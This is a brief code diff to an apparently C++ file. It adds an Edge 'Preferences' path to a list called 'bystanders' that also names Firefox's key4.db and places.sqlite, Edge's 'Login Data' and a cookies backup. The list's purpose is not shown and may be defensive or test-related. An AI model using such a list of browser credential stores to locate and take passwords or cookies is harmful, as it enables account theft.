@@ -75,6 +75,7 @@ const std::vector<std::string> bystanders{
     firefoxProfile + "\\places.sqlite",
     firefoxProfile + "\\key4.db",
     edgeProfile + "\\Login Data",
+    edgeProfile + "\\Preferences",
     edgeProfile + "\\Network\\Cookies.bak",
 };
 
